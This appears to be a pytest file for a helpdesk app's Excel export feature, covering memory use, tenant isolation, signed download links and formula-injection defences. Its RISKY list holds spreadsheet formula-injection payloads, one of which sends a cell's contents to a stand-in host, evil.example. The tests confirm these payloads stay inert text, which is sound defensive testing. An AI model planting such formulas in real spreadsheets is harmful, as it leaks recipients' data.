"""Excel exports (#16): built in the background by a real worker, read back with openpyxl and
checked row by row against the database; peak memory of the process that builds a 100,000-ticket
export measured; formula injection, Chinese text, signed links that expire or are forged, another
tenant's export, one customer's export, and `channelhub export` with its progress bar."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp
import openpyxl
import pytest
from sqlalchemy import insert, select

from core import exports, seats, secrets, tenants
from core.config import Settings
from core.db import Database
from core.models import Agent, Customer, CustomerIdentity, Group, Message, Ticket
from tests.conftest import PASSWORD, ROOT, Databases, Server, TenantInfo, eventually, make_tenant
from tests.processes import child_env, spawn, stop, wait_healthy
from tests.servers import free_port
from tests.support import Http, Reply, assert_error
from tests.test_browser import browser, local_tenant  # noqa: F401

TICKETS = 100_000
CUSTOMERS = 20_000
MESSAGES = 20_000
# What building the export may add to the peak RSS of the process that builds it. The builder holds
# two chunks of 2,000 rows as Python tuples (about 15 values each: a few MB), the driver's buffers for
# one chunk, and xlsxwriter's one row per sheet (constant_memory); the file itself streams to disk.
# Before chunking and constant_memory (all rows in memory, shared strings) 100,000 tickets took
# several hundred MB. 40 MB leaves room for the allocator's arenas and the database driver.
PEAK_BOUND_MB = 40
START = datetime(2026, 1, 1, tzinfo=UTC)
RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(1)", "\tTab", "=1+1"]


# --- helpers -------------------------------------------------------------------------------------
async def _login(http: Http, host: str, email: str) -> str:
    reply = await http("POST", "/api/v1/auth/login", host=host, json_body={"email": email, "password": PASSWORD})
    assert reply.status == 200, reply
    return str(reply.body["token"])


async def _done(http: Http, host: str, token: str, export_id: int, timeout: float = 120) -> dict[str, Any]:
    async def check() -> dict[str, Any] | None:
        reply = await http("GET", f"/api/v1/exports/{export_id}", host=host, token=token)
        assert reply.status == 200, reply
        found = reply.body["export"]
        assert found["state"] in ("queued", "running", "done"), found
        return found if found["state"] == "done" else None

    return await eventually(check, timeout=timeout, interval=0.2)  # type: ignore[no-any-return]


async def _download(base_url: str, host: str, path: str) -> tuple[int, bytes, Any]:
    async with aiohttp.ClientSession() as session, session.get(base_url + path, headers={"Host": host}) as resp:
        return resp.status, await resp.read(), resp.headers


def _text(values: Any) -> str | None:
    return ", ".join(str(v) for v in values) or None if isinstance(values, list) else None


def _when(value: datetime | None) -> datetime | None:
    return value.astimezone(UTC).replace(tzinfo=None) if value is not None else None


def _same(got: Any, want: Any) -> bool:
    if isinstance(want, datetime):
        # Excel keeps times to the millisecond.
        return isinstance(got, datetime) and abs(got - want) < timedelta(milliseconds=1)
    if want == "":
        want = None
    return bool(got == want)


def _check_rows(sheet: Any, headers: tuple[str, ...], expected: Iterator[tuple[Any, ...]]) -> int:
    rows = sheet.iter_rows(values_only=True)
    assert next(rows) == headers
    n = 0
    for got, want in zip(rows, expected, strict=True):
        got = tuple(got) + (None,) * (len(want) - len(got))
        assert all(_same(g, w) for g, w in zip(got, want, strict=True)), (got, want)
        n += 1
    return n


async def _expected(db: Database, tenant_id: int, messages: bool) -> dict[str, list[tuple[Any, ...]]]:
    """Every row the export must hold, read here with the ORM, independently of core.exports."""
    async with db.read(tenant_id) as session:
        agents = {r.id: r.name for r in await session.execute(select(Agent.id, Agent.name))}
        groups = {r.id: r.name for r in await session.execute(select(Group.id, Group.name))}
        idents: dict[int, list[str]] = {}
        for i in (await session.scalars(select(CustomerIdentity).order_by(CustomerIdentity.id))).all():
            idents.setdefault(i.customer_id, []).append(f"{i.channel}: {i.external_id}")
        names: dict[int, str | None] = {}
        customers = []
        for c in (await session.scalars(select(Customer).order_by(Customer.id))).all():
            names[c.id] = c.name
            customers.append((c.id, c.name, c.email, "; ".join(idents.get(c.id, [])), _text(c.tags),
                              None if not c.attributes else json.dumps(c.attributes, ensure_ascii=False),
                              _when(c.created_at), c.merged_into_id))
        tickets = [(t.id, t.customer_id, names[t.customer_id], t.channel, t.subject, t.status, t.priority,
                    groups.get(t.group_id) if t.group_id else None,
                    agents.get(t.assignee_id) if t.assignee_id else None,
                    _text(t.tags), _when(t.created_at), _when(t.updated_at), _when(t.first_response_at),
                    _when(t.solved_at), _when(t.closed_at))
                   for t in (await session.scalars(select(Ticket).order_by(Ticket.id))).all()]
        out = {"Customers": customers, "Tickets": tickets}
        if messages:
            out["Messages"] = [
                (m.id, m.ticket_id, _when(m.created_at), m.direction, m.channel,
                 "customer" if m.direction == "inbound" else agents.get(m.author_agent_id),
                 m.body, ", ".join(a["name"] for a in m.attachments) or None, m.delivery_state)
                for m in (await session.scalars(select(Message).order_by(Message.id))).all()]
    return out


def _check_workbook(path: Path, expected: dict[str, list[tuple[Any, ...]]]) -> dict[str, int]:
    book = openpyxl.load_workbook(path, read_only=True)
    try:
        assert book.sheetnames == list(expected)
        return {name: _check_rows(book[name], tuple(c.header for c in exports.SHEETS[name]), iter(rows))
                for name, rows in expected.items()}
    finally:
        book.close()


async def _bulk(db: Database, tenant_id: int, customers: int, tickets: int, messages: int) -> None:
    """The tenant's customers, tickets and messages, inserted in bulk (as a migration would: the
    exports read what is stored, however it got there)."""
    async with db.connection() as conn:
        await conn.execute(insert(Customer), [
            {"tenant_id": tenant_id, "name": (f"客户 {i}" if i % 3 else f"Customer {i}") if i % 7 else None,
             "email": f"c{i}@example.com" if i % 2 else None, "tags": ["vip"] if i % 5 == 0 else [],
             "attributes": {"city": "上海"} if i % 11 == 0 else {}, "created_at": START + timedelta(seconds=i)}
            for i in range(customers)])
    async with db.read(tenant_id) as session:
        ids = list((await session.scalars(select(Customer.id).where(Customer.tenant_id == tenant_id)
                                          .order_by(Customer.id))).all())
    async with db.connection() as conn:
        await conn.execute(insert(CustomerIdentity), [
            {"tenant_id": tenant_id, "customer_id": cid, "channel": "webchat", "external_id": f"v-{cid}"}
            for cid in ids[: customers // 2]])
    statuses = ("new", "open", "pending", "solved", "closed")
    channels = ("webchat", "email", "wechat")
    for start in range(0, tickets, 20_000):
        async with db.connection() as conn:
            await conn.execute(insert(Ticket), [
                {"tenant_id": tenant_id, "customer_id": ids[i % len(ids)], "channel": channels[i % 3],
                 "subject": f"订单 {i}: where is it?" if i % 4 else None, "status": statuses[i % 5],
                 "priority": "normal", "priority_rank": 1, "tags": ["退款"] if i % 9 == 0 else [],
                 "routing_state": "idle", "created_at": START + timedelta(minutes=i),
                 "updated_at": START + timedelta(minutes=i, seconds=30, microseconds=250_000),
                 "solved_at": START + timedelta(minutes=i + 5) if statuses[i % 5] == "solved" else None}
                for i in range(start, min(start + 20_000, tickets))])
    async with db.read(tenant_id) as session:
        ticket_ids = list((await session.scalars(select(Ticket.id).where(Ticket.tenant_id == tenant_id)
                                                 .order_by(Ticket.id).limit(messages))).all())
    if not messages:
        return
    async with db.connection() as conn:
        await conn.execute(insert(Message), [
            {"tenant_id": tenant_id, "ticket_id": tid, "channel": "webchat", "direction": "inbound",
             "body": f"你好, message {n}\nsecond line", "created_at": START + timedelta(minutes=n)}
            for n, tid in enumerate(ticket_ids)])


def _memory_kb(pid: int, field: str) -> int:
    """The process's peak resident set (VmHWM) or current one (VmRSS), in kB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field}")


def _reset_peak(pid: int) -> int:
    """Start the process's peak resident set over from its current size (Linux: clear_refs 5), so
    what signing in took (argon2 hashes in 64 MB) is not the peak measured; returns that size."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")
    return _memory_kb(pid, "VmRSS")


# --- 100,000 tickets through the API and a real serve process -----------------------------------------
# It reads 100,000 tickets' rows back with openpyxl: five minutes and more on a loaded machine.
@pytest.mark.timeout(1200)
async def test_an_export_of_100000_tickets_in_bounded_memory_matches_the_database(
        settings: Settings, fresh: Databases, tmp_path: Path) -> None:
    # A database of its own, so the test's serve process is the only one that can take its exports.
    own_db = await fresh("export", migrated=True)
    from dataclasses import replace

    db = Database(own_db)
    try:
        domain = f"big{uuid.uuid4().hex[:8]}.example.com"
        async with db.session() as session:
            tenant = await tenants.create(session, name="Big", domains=[domain])
        async with db.session(tenant.id) as session:
            await seats.create_agent(session, tenant.id, email=f"admin@{domain}", name="Admin", password=PASSWORD,
                                     role="admin")
        await _bulk(db, tenant.id, CUSTOMERS, TICKETS, MESSAGES)
        port = free_port()
        hub = await spawn("serve", ["serve"], child_env(replace(settings, database_url=own_db),
                                                        f"chexp-{uuid.uuid4().hex[:8]}", port), tmp_path)
        hub.url = f"http://127.0.0.1:{port}"
        try:
            async with aiohttp.ClientSession() as session:
                await wait_healthy(hub, session)
                http = Http(hub.url, session)
                token = await _login(http, domain, f"admin@{domain}")
                before = _reset_peak(hub.proc.pid)
                assert _memory_kb(hub.proc.pid, "VmHWM") <= before + 1024
                reply = await http("POST", "/api/v1/exports", host=domain, token=token,
                                   json_body={"include_messages": True})
                assert reply.status == 202, reply
                assert reply.body["export"]["state"] == "queued"
                seen_running = False

                async def check() -> dict[str, Any] | None:
                    nonlocal seen_running
                    got = (await http("GET", f"/api/v1/exports/{reply.body['export']['id']}", host=domain,
                                      token=token)).body["export"]
                    seen_running |= got["state"] == "running" and 0 < got["rows_done"] < got["rows_total"]
                    return got if got["state"] == "done" else None

                done = await eventually(check, timeout=300, interval=0.2)
                peak = _memory_kb(hub.proc.pid, "VmHWM")
            total = CUSTOMERS + TICKETS + MESSAGES
            assert done["rows_done"] == done["rows_total"] == total and done["progress"] == 1.0, done
            assert seen_running, "the progress was never seen between 0 and the total"
            grown_mb = (peak - before) / 1024
            took = datetime.fromisoformat(done["finished_at"]) - datetime.fromisoformat(done["started_at"])
            print(f"\nexport of {total} rows in {took.total_seconds():.1f} s: RSS {before / 1024:.0f} MB before, "
                  f"peak {peak / 1024:.0f} MB during the export (+{grown_mb:.1f} MB)")
            assert grown_mb < PEAK_BOUND_MB, (before, peak)
            status, data, headers = await _download(hub.url, domain, done["download_url"])
            assert status == 200 and headers["Content-Type"] == exports.CONTENT_TYPE
            assert headers["Content-Disposition"].startswith("attachment; filename=")
            path = tmp_path / "big.xlsx"
            path.write_bytes(data)
        finally:
            await stop(hub)
        counts = _check_workbook(path, await _expected(db, tenant.id, messages=True))
        assert counts == {"Customers": CUSTOMERS, "Tickets": TICKETS, "Messages": MESSAGES}
    finally:
        await db.dispose()


# --- the in-process server: cells, links, tenants, one customer ------------------------------------
async def _admin(tenant: TenantInfo, http: Http) -> str:
    admin = await tenant.add_agent(role="admin", name="管理员 Admin")
    return await _login(http, tenant.domain, admin.email)


@pytest.fixture
async def http(server: Server) -> AsyncIterator[Http]:
    async with aiohttp.ClientSession() as session:
        yield Http(server.url, session)


async def test_formulas_are_never_cells_that_run_and_chinese_is_kept(
        server: Server, tenant: TenantInfo, http: Http, tmp_path: Path) -> None:
    token = await _admin(tenant, http)
    visitor = tenant.visitor()
    await visitor.connect()
    for n, text in enumerate(RISKY):
        await visitor.send(f"{text} 你好 {n}")
    db = Database(tenant.settings.database_url)
    try:
        async def stored() -> bool:
            async with db.read(tenant.id) as session:
                return len((await session.scalars(select(Message.id))).all()) == len(RISKY)

        await eventually(stored)
        async with db.connection() as conn:
            await conn.execute(insert(Customer), [
                {"tenant_id": tenant.id, "name": name, "email": None} for name in [*RISKY, "张三 (上海)"]])
        reply = await http("POST", "/api/v1/exports", host=tenant.domain, token=token,
                           json_body={"include_messages": True})
        assert reply.status == 202, reply
        done = await _done(http, tenant.domain, token, reply.body["export"]["id"])
        status, data, _ = await _download(server.url, tenant.domain, done["download_url"])
        assert status == 200
        path = tmp_path / "cells.xlsx"
        path.write_bytes(data)
        expected = await _expected(db, tenant.id, messages=True)
    finally:
        await db.dispose()
    _check_workbook(path, expected)
    # Not one cell is a formula; the risky texts are strings, shown with Excel's quote prefix.
    book = openpyxl.load_workbook(path)  # full mode: the cells' styles too
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(exports.RISKY_START):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    for text in RISKY:
        assert text in texts
    assert "张三 (上海)" in texts and any(t.startswith("+1 你好") for t in texts)
    assert book["Tickets"]["K1"].value == "Created (UTC)"


async def test_filters_and_one_customers_export(server: Server, tenant: TenantInfo, http: Http,
                                                tmp_path: Path) -> None:
    token = await _admin(tenant, http)
    db = Database(tenant.settings.database_url)
    try:
        await _bulk(db, tenant.id, 30, 300, 50)
        reply = await http("POST", "/api/v1/exports", host=tenant.domain, token=token, json_body={
            "from": "2026-01-01", "to": "2026-01-01", "statuses": ["open", "solved"], "channels": ["email"]})
        assert reply.status == 202, reply
        assert reply.body["export"]["filters"] == {"from": "2026-01-01", "to": "2026-01-01",
                                                   "statuses": ["open", "solved"], "channels": ["email"]}
        done = await _done(http, tenant.domain, token, reply.body["export"]["id"])
        status, data, _ = await _download(server.url, tenant.domain, done["download_url"])
        assert status == 200
        (tmp_path / "f.xlsx").write_bytes(data)
        book = openpyxl.load_workbook(tmp_path / "f.xlsx", read_only=True)
        tickets = list(book["Tickets"].iter_rows(min_row=2, values_only=True))
        customers = {r[0] for r in book["Customers"].iter_rows(min_row=2, values_only=True)}
        book.close()
        async with db.read(tenant.id) as session:
            want = (await session.scalars(select(Ticket.id).where(
                Ticket.status.in_(("open", "solved")), Ticket.channel == "email",
                Ticket.created_at < START + timedelta(days=1)).order_by(Ticket.id))).all()
        assert [r[0] for r in tickets] == list(want) and want
        assert customers == {r[1] for r in tickets}
        assert book.sheetnames == ["Customers", "Tickets"]

        # One customer's data: the customer, its tickets and every message of them.
        async with db.read(tenant.id) as session:
            customer_id = (await session.scalars(select(Customer.id).order_by(Customer.id).limit(1))).one()
        reply = await http("POST", f"/api/v1/customers/{customer_id}/export", host=tenant.domain, token=token)
        assert reply.status == 202 and reply.body["export"]["customer_id"] == customer_id, reply
        done = await _done(http, tenant.domain, token, reply.body["export"]["id"])
        _status, data, headers = await _download(server.url, tenant.domain, done["download_url"])
        assert f"customer-{customer_id}" in headers["Content-Disposition"]
        (tmp_path / "c.xlsx").write_bytes(data)
        book = openpyxl.load_workbook(tmp_path / "c.xlsx", read_only=True)
        assert [r[0] for r in book["Customers"].iter_rows(min_row=2, values_only=True)] == [customer_id]
        tickets = [r[1] for r in book["Tickets"].iter_rows(min_row=2, values_only=True)]
        messages = [r[1] for r in book["Messages"].iter_rows(min_row=2, values_only=True)]
        book.close()
        async with db.read(tenant.id) as session:
            theirs = set((await session.scalars(select(Ticket.id).where(Ticket.customer_id == customer_id))).all())
            their_messages = (await session.scalars(select(Message.ticket_id).where(
                Message.ticket_id.in_(theirs)).order_by(Message.id))).all()
        assert set(tickets) == {customer_id} and len(tickets) == len(theirs) == 10
        assert messages == list(their_messages) and messages
        listed = await http("GET", "/api/v1/exports", host=tenant.domain, token=token)
        assert [e["id"] for e in listed.body["exports"]][:2] == [done["id"], done["id"] - 1], listed
    finally:
        await db.dispose()


async def test_links_expire_forged_ones_are_refused_and_another_tenant_sees_nothing(
        server: Server, tenant: TenantInfo, other_tenant: TenantInfo, http: Http) -> None:
    token = await _admin(tenant, http)
    other_token = await _admin(other_tenant, http)
    reply = await http("POST", "/api/v1/exports", host=tenant.domain, token=token, json_body={})
    done = await _done(http, tenant.domain, token, reply.body["export"]["id"])
    export_id, url = done["id"], done["download_url"]
    assert datetime.fromisoformat(done["download_expires_at"]) <= datetime.now(UTC) + timedelta(
        seconds=server.settings.export_link_seconds + 1)
    assert (await _download(server.url, tenant.domain, url))[0] == 200

    def call(path: str, host: str = tenant.domain) -> Any:
        return http("GET", path, host=host)

    expires = int(url.split("expires=")[1].split("&")[0])
    sig = url.split("signature=")[1]
    # Forged: another signature, another expiry under the same signature, another id.
    assert_error(await call(f"/exports/{export_id}/file?expires={expires}&signature={'A' * 32}"), 404,
                 "export_not_found")
    assert_error(await call(f"/exports/{export_id}/file?expires={expires + 3600}&signature={sig}"), 404,
                 "export_not_found")
    assert_error(await call(f"/exports/{export_id + 1}/file?expires={expires}&signature={sig}"), 404,
                 "export_not_found")
    assert_error(await call(f"/exports/{export_id}/file"), 404, "export_not_found")
    # Signed rightly, but its time is over.
    past = int((datetime.now(UTC) - timedelta(seconds=1)).timestamp())
    old = secrets.sign(server.settings, exports.SIGNING_PURPOSE, f"{tenant.id}:{export_id}:{past}")
    assert_error(await call(f"/exports/{export_id}/file?expires={past}&signature={old}"), 410, "link_expired")
    # The other tenant: the link on its domain, the export's id with its token.
    assert_error(await call(url, host=other_tenant.domain), 404, "export_not_found")
    got: Reply = await http("GET", f"/api/v1/exports/{export_id}", host=other_tenant.domain, token=other_token)
    assert_error(got, 404, "export_not_found")
    assert (await http("GET", "/api/v1/exports", host=other_tenant.domain, token=other_token)).body == {"exports": []}
    # Agents may not export.
    agent = await tenant.add_agent()
    agent_token = await _login(http, tenant.domain, agent.email)
    assert_error(await http("POST", "/api/v1/exports", host=tenant.domain, token=agent_token, json_body={}),
                 403, "admin_only")


async def test_the_command_writes_the_same_file_with_a_progress_bar(settings: Settings, server: Server,
                                                                     tmp_path: Path) -> None:
    tenant = await make_tenant(settings, server)
    db = Database(settings.database_url)
    try:
        await _bulk(db, tenant.id, 50, 500, 100)
        expected = await _expected(db, tenant.id, messages=True)
    finally:
        await db.dispose()
    env = {**child_env(settings, "chexport-cli", None)}
    out = tmp_path / "cli.xlsx"

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        # Bytes, not text: universal newlines would turn the bar's carriage returns into line ends.
        done = subprocess.run([sys.executable, "-m", "channelhub.cli", "export", *args], env=env, cwd=ROOT,
                              capture_output=True, timeout=120)
        return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())

    done = await asyncio.to_thread(run, "--domain", tenant.domain, "--out", str(out), "--messages")
    assert done.returncode == 0, done.stderr
    assert "\r" in done.stderr and "100.0%" in done.stderr and "650/650 rows" in done.stderr, done.stderr
    assert _check_workbook(out, expected) == {"Customers": 50, "Tickets": 500, "Messages": 100}
    for args, words in ((("--domain", "nobody.example.com", "--out", str(out)), "no tenant at"),
                        (("--domain", tenant.domain, "--out", str(tmp_path / "x.csv")), ".xlsx"),
                        (("--domain", tenant.domain, "--out", str(out), "--status", "bogus"), "unknown status"),
                        (("--domain", tenant.domain, "--out", str(out), "--from", "2026-02-30"), "not a day")):
        bad = await asyncio.to_thread(run, *args)
        assert bad.returncode == 2 and words in bad.stderr, bad.stderr


# --- the console -------------------------------------------------------------------------------------
async def test_an_admin_exports_from_the_console(browser: Any, local_tenant: TenantInfo,  # noqa: F811
                                                 shots: Path) -> None:
    from tests.test_browser import _agent_signs_in, origin

    admin = await local_tenant.add_agent(role="admin", name="王芳")
    db = Database(local_tenant.settings.database_url)
    try:
        await _bulk(db, local_tenant.id, 20, 200, 0)
    finally:
        await db.dispose()
    ctx, page = await _agent_signs_in(browser, origin(local_tenant), admin.email)
    try:
        await page.select_option("#lang", "zh-CN")
        await page.click("#admin-open")
        await page.click("[data-tab='exports']")
        await page.wait_for_selector("#exports :text('还没有导出。')")
        # The channels by their names in the agent's language, not their kinds.
        assert (await page.inner_text("label:has([data-channel='webchat'])")).strip() == "网页聊天"
        await page.check("[data-status='solved']")
        await page.click("#export-start")
        link = page.locator("#export-list li[data-state='done'] .export-download")
        await link.wait_for(timeout=30_000)
        # 40 solved tickets of 4 customers.
        assert "44 / 44 行" in await page.inner_text("#export-list li[data-state='done']")
        await page.screenshot(path=str(shots / "console-export-zh.png"), full_page=True)
        async with page.expect_download() as got:
            await link.click()
        download = await got.value
        assert download.suggested_filename.endswith(".xlsx"), download.suggested_filename
        path = shots / "console-export.xlsx"
        await download.save_as(str(path))
        book = openpyxl.load_workbook(path, read_only=True)
        statuses = {r[5] for r in book["Tickets"].iter_rows(min_row=2, values_only=True)}
        book.close()
        assert statuses == {"solved"}
    finally:
        await ctx.close()


async def test_an_export_a_dead_process_held_is_taken_again_and_fails_after_three_claims(
        server: Server, tenant: TenantInfo, http: Http) -> None:
    """A builder that died leaves its claim; once the lease has run out (set in the past here, as if
    the clock had moved on) a live process takes the export and builds it. One interrupted three
    times is failed instead of being tried for ever."""
    from core.models import Export

    token = await _admin(tenant, http)
    db = Database(tenant.settings.database_url)
    try:
        past = datetime.now(UTC) - timedelta(seconds=1)
        async with db.session(tenant.id) as session:
            rows = [Export(tenant_id=tenant.id, filters={}, state="running", claimed_by="dead:1", lease_until=past,
                           attempts=attempts, rows_done=5, rows_total=10) for attempts in (1, 3)]
            session.add_all(rows)
            await session.flush()
            resumed, given_up = rows[0].id, rows[1].id
    finally:
        await db.dispose()
    done = await _done(http, tenant.domain, token, resumed)
    assert done["rows_done"] == done["rows_total"] and done["download_url"], done

    async def failed() -> dict[str, Any] | None:
        got = (await http("GET", f"/api/v1/exports/{given_up}", host=tenant.domain, token=token)).body["export"]
        return got if got["state"] == "failed" else None

    gone = await eventually(failed, timeout=30)
    assert "interrupted 3 times" in gone["error"] and gone["download_url"] is None
